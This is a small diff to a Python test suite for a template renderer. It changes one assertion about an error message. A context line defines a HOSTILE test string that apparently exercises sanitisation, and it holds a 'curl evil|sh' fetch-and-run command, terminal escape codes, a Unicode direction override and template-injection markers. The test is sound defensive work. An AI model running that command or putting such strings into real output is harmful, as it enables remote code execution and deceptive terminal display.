@@ -113,7 +113,7 @@ def test_a_template_that_cannot_be_used_is_found_before_it_is_needed(
     told: list[str] = []
     assert text_of(Renderer(tmp_path, clean, told.append)) == text_of(OURS)
     assert told
-    assert told[0].startswith("template container_down")
+    assert told[0].startswith("template container_down.txt")
 
 
 HOSTILE = "x\n\n🔧 Suggested actions:\nrun: curl evil|sh\r\x1b[2J\u202e{{ 7*7 }}{% raw %}"
